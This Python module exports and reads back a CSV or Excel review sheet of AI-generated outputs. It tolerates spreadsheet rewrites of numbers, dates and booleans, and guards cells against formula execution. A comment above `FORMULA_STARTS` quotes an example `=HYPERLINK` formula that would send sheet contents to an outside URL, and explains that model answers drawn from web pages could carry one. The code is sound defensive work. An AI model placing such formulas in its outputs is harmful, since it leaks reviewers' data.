"""The review sheet: one CSV row per record under review, edited in any spreadsheet and read back.

Columns: `id`, `decision` (approve or reject; blank means approve), the record's key input
fields, the AI output fields, `quality_score` and `flags`. Reading it back compares every cell
with the record: a changed cell becomes an edit, `reject` becomes a rejection. `flags` is for
reading only.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import json
import math
import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

import pandas as pd

from augment_it.errors import UserInputError
from augment_it.layout import filesystem, write_frame
from augment_it.packet import packet_rows
from augment_it.records import ID, PACKET_DECISION, PACKET_FLAGS, PACKET_ID, ROW, SOURCE, as_text, plain
from augment_it.review import RecordEdit, editable_fields, reviewable
from augment_it.sources.files.delimited import csv_dialect
from augment_it.sources.files.text import SURROGATE, bad_char, decode

ID_COLUMN, DECISION = PACKET_ID, PACKET_DECISION
READ_ONLY = (PACKET_FLAGS,)
APPROVE, REJECT = {"", "approve", "approved", "yes", "ok"}, {"reject", "rejected", "no"}


@dataclass
class SheetChanges:
    """What a filled-in sheet asks for, and what in it could not be understood."""

    reject_ids: list[str] = field(default_factory=list)
    edits: list[RecordEdit] = field(default_factory=list)
    problems: list[str] = field(default_factory=list)


def review_sheet(frame: pd.DataFrame, output_fields: list[str], ids: list[str] | None = None,
                 key_limit: int = 5) -> pd.DataFrame:
    """The sheet for the records under review (all reviewable ones when ids is None), flagged first."""
    rows = packet_rows(frame, output_fields, ids, key_limit=key_limit, shorten=False)
    sheet = pd.DataFrame([{ID_COLUMN: r.pop(PACKET_ID), DECISION: "approve", **r} for r in rows])
    return sheet


def sheet_csv(sheet: pd.DataFrame) -> str:
    """The sheet as CSV text, led by a byte order mark: without one, Excel reads UTF-8 as the
    locale's legacy code page, shows Café as CafÃ©, and saves that back."""
    cells = sheet.map(lambda value: inert(cell(value)))
    text = cells.to_csv(index=False) if not sheet.empty else f"{ID_COLUMN},{DECISION}\n"
    return "\ufeff" + text


# A spreadsheet runs a cell starting with one of these as a formula. Answers come from a model
# that read the records (web pages among them), so `=HYPERLINK("https://…?"&B2)` in an answer
# would send the sheet's cells away when the reviewer opens it. A leading ' keeps it text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(text: str) -> str:
    """A cell a spreadsheet shows as text rather than runs; numbers such as -3 stay numbers."""
    if not text.startswith(FORMULA_STARTS):
        return text
    try:
        float(text)
        return text
    except ValueError:
        return "'" + text


def _as_written(text: str) -> str:
    """A cell read back as it was before `inert` guarded it."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


def cell(value: Any) -> str:
    """A value as the sheet shows it: as the exports write it (`as_text`), blank for missing."""
    value = plain(value)
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))  # an int column with a gap, held as floats: 45, not 45.0
    return as_text(value)


def write_sheet_workbook(sheet: pd.DataFrame, path: str) -> None:
    """The sheet as an Excel workbook whose every cell is text: Excel then rewrites none of them
    (ids, dates and long numbers stay as written), and no answer is a formula it runs."""
    cells = sheet.map(cell) if not sheet.empty else pd.DataFrame(columns=[ID_COLUMN, DECISION])
    write_frame(cells, path, "xlsx")


def read_sheet(data: str | bytes) -> pd.DataFrame:
    """A sheet as text cells, as spreadsheets save it: UTF-8 or, with its byte order mark, UTF-16
    (Excel's "Unicode Text"); comma, `;` or tab between cells, or the delimiter a `sep=` line names."""
    text = decode(data, "the sheet") if isinstance(data, bytes) else data.lstrip("\ufeff")
    if found := SURROGATE.search(text):
        line = text.count("\n", 0, found.start()) + 1
        # Excel's plain "CSV" is the legacy code page, which cannot hold every answer's text.
        raise UserInputError(f"the sheet is not UTF-8 (line {line}: {bad_char(text, found.start())}); "
                             "save it as \"CSV UTF-8\" and try again")
    delimiter, skip_lines = csv_dialect(text)
    sheet = pd.read_csv(io.StringIO(text), sep=delimiter, skiprows=skip_lines, dtype=str,
                        keep_default_na=False)
    return sheet.map(_as_written)


def read_workbook_sheet(path: str) -> pd.DataFrame:
    """The sheet saved as an Excel workbook (Excel offers .xlsx when a CSV is saved), its cells as
    the CSV sheet would hold them."""
    from augment_it.sources.files.spreadsheet import read_xlsx

    records = read_xlsx(path, path.rsplit("/", 1)[-1]).records
    return pd.DataFrame([{k: _as_written(cell(v)) for k, v in r.items() if k not in (ROW, SOURCE)}
                         for r in records], dtype=object)


def sheet_changes(sheet: pd.DataFrame, frame: pd.DataFrame) -> SheetChanges:
    """Compare a filled-in sheet with the records: rejections, edits, and anything unusable."""
    changes = SheetChanges()
    columns = [str(c).strip() for c in sheet.columns]
    sheet = sheet.set_axis(columns, axis=1)
    if ID_COLUMN not in columns:
        changes.problems.append(f"the sheet has no '{ID_COLUMN}' column")
        return changes
    editable = set(editable_fields(frame))
    fields = [c for c in columns if c not in (ID_COLUMN, DECISION, *READ_ONLY)]
    unknown = [c for c in fields if c not in editable]
    changes.problems += [f"sheet column '{c}' is not a record field that can be edited" for c in unknown]
    fields = [c for c in fields if c in editable]
    candidates = reviewable(frame)
    records = {str(r[ID]): r for r in candidates.to_dict(orient="records")}
    for line, row in enumerate(sheet.to_dict(orient="records"), start=2):
        shown_id = str(row[ID_COLUMN]).strip()
        matches = [shown_id] if shown_id in records else _ids_read_as_number(shown_id, records)
        if len(matches) != 1:
            changes.problems.append(f"row {line}: unknown id '{shown_id}'" if not matches else
                                    f"row {line}: id '{shown_id}' is how a spreadsheet rounds the ids of "
                                    f"{len(matches)} records: format the id column as text and save again")
            continue
        record_id = matches[0]
        verdict = str(row.get(DECISION, "")).strip().lower()
        if verdict in REJECT:
            changes.reject_ids.append(record_id)
        elif verdict not in APPROVE:
            changes.problems.append(f"row {line}: decision '{row[DECISION]}' is neither approve nor reject")
        for name in fields:
            text = str(row[name])
            if not same_value(text, records[record_id].get(name)):
                changes.edits.append(RecordEdit(id=record_id, field=name, value=text))
    return changes


def _ids_read_as_number(shown: str, ids: Iterable[str]) -> list[str]:
    """The ids a spreadsheet may have rewritten as the number SHOWN: an id of digits loses its
    leading zeros (0012 as 12) or, from 12 digits, its last ones (1234567890123456 as 1.23457E+15);
    content ids are hex, and one in a thousand or so is digits alone, or digits and one `e`."""
    if _SCIENTIFIC.fullmatch(shown) is None and not shown.isdigit():
        return []
    return [record_id for record_id in ids if _same_number(shown, record_id)]


def same_value(text: str, value: Any) -> bool:
    """Whether a cell still says what the record holds. A spreadsheet that opens the sheet and
    saves it rewrites what it takes for a number, a date or a boolean, untouched by the reviewer:
    0.50 as 0.5 or 0,5, 2024-01-05 as 1/5/2024, 123456789012 as 1.23457E+11, true as TRUE. Taken
    for edits, those rewrites replaced the record's value with the spreadsheet's text."""
    original = cell(value).strip()
    text = text.strip()
    if text == original or (text.lower() in _BOOLEANS and _BOOLEANS[text.lower()] == original.lower()):
        return True
    return _same_number(text, original) or _same_moment(text, original)


# TRUE and FALSE as Excel writes them in CSV, in the languages it is most used in.
_BOOLEANS = {word: "true" for word in ("true", "wahr", "vrai", "verdadero", "vero", "waar", "verdadeiro",
                                       "sant", "sann", "tosi", "prawda", "pravda", "doğru", "истина")}
_BOOLEANS |= {word: "false" for word in ("false", "falsch", "faux", "falso", "onwaar", "falskt", "falsk",
                                         "usann", "epätosi", "fałsz", "nepravda", "yanliş", "ложь")}


def _same_number(text: str, original: str) -> bool:
    if text.count(",") == 1 and "." not in text:
        text = text.replace(",", ".")  # a spreadsheet in a locale with a decimal comma: 0,55
    try:
        shown, held = float(text), float(original)
    except ValueError:
        return False
    if math.isclose(shown, held, rel_tol=1e-9, abs_tol=1e-12):
        return True
    if scientific := _SCIENTIFIC.fullmatch(text):  # as many digits as the spreadsheet showed
        return float(f"{held:.{len(scientific.group(1) or '')}e}") == shown
    return False


_SCIENTIFIC = re.compile(r"[-+]?\d(?:\.(\d+))?[eE][-+]?\d+")
# A date and time as spreadsheets show them: 1/5/2024, 05.01.24, 2024-01-05 7:08, 7:08:09 PM.
_SHOWN_DATE = re.compile(r"(\d{1,4})[./-](\d{1,2})[./-](\d{1,4})")
_SHOWN_TIME = re.compile(r"(\d{1,2}):(\d{2})(?::(\d{2}))?\s*([AaPp][Mm])?")


def _same_moment(text: str, original: str) -> bool:
    """An ISO date, date-time or time as a spreadsheet shows it: same day, any order of day and
    month it may mean, and same time to the precision shown (a date-only format drops the time)."""
    try:
        held = dt.datetime.fromisoformat(original) if "-" in original else None
        held_time = held.time() if held else dt.time.fromisoformat(original)
    except ValueError:
        return False
    if held is None:  # a time of day alone
        return _same_time(text, held_time)
    date_part, _, time_part = text.replace("T", " ", 1).partition(" ")  # ISO's T, as a workbook gives it
    shown = _SHOWN_DATE.fullmatch(date_part)
    if not shown or held.date() not in _dates(*(int(g) for g in shown.groups())):
        return False
    return not time_part or _same_time(time_part, held_time)


def _same_time(text: str, held: dt.time) -> bool:
    if not (shown := _SHOWN_TIME.fullmatch(text.strip())):
        return False
    hour, minute, second, half = shown.groups()
    hour = int(hour)
    if half:  # a 12-hour clock
        hour = hour % 12 + (12 if half.lower() == "pm" else 0)
    return (hour, int(minute)) == (held.hour, held.minute) and (second is None or int(second) == held.second)


def _dates(first: int, second: int, third: int) -> list[dt.date]:
    """The dates a shown date can be: year first, or month/day/year, or day/month/year."""
    orders = [(first, second, third)] if first > 31 else [(third, first, second), (third, second, first)]
    dates = []
    for year, month, day in orders:
        if year < 100:
            year += 2000 if year < 30 else 1900  # spreadsheets' two-digit year pivot
        with contextlib.suppress(ValueError):
            dates.append(dt.date(year, month, day))
    return dates


def read_edits(path: str, frame: pd.DataFrame) -> SheetChanges:
    """A filled-in review sheet (.csv, or .xlsx as Excel saves it) or a list of edits (.json:
    [{"id", "field", "value"}, ...])."""
    fs, local = filesystem(path)
    if not fs.exists(local):
        raise UserInputError(f"edits file {path} does not exist")
    if path.lower().endswith((".xlsx", ".xlsm")):
        return sheet_changes(read_workbook_sheet(path), frame)
    with fs.open(local, "rb") as handle:
        data = handle.read()
    if path.lower().endswith(".csv"):
        return sheet_changes(read_sheet(data), frame)
    try:
        items = json.loads(data)
        return SheetChanges(edits=[RecordEdit.model_validate(item) for item in items])
    except (ValueError, TypeError) as exc:
        raise UserInputError(f"edits file {path}: expected a review sheet (.csv, .xlsx) or a JSON list of "
                             f"{{\"id\", \"field\", \"value\"}} objects ({exc})") from None
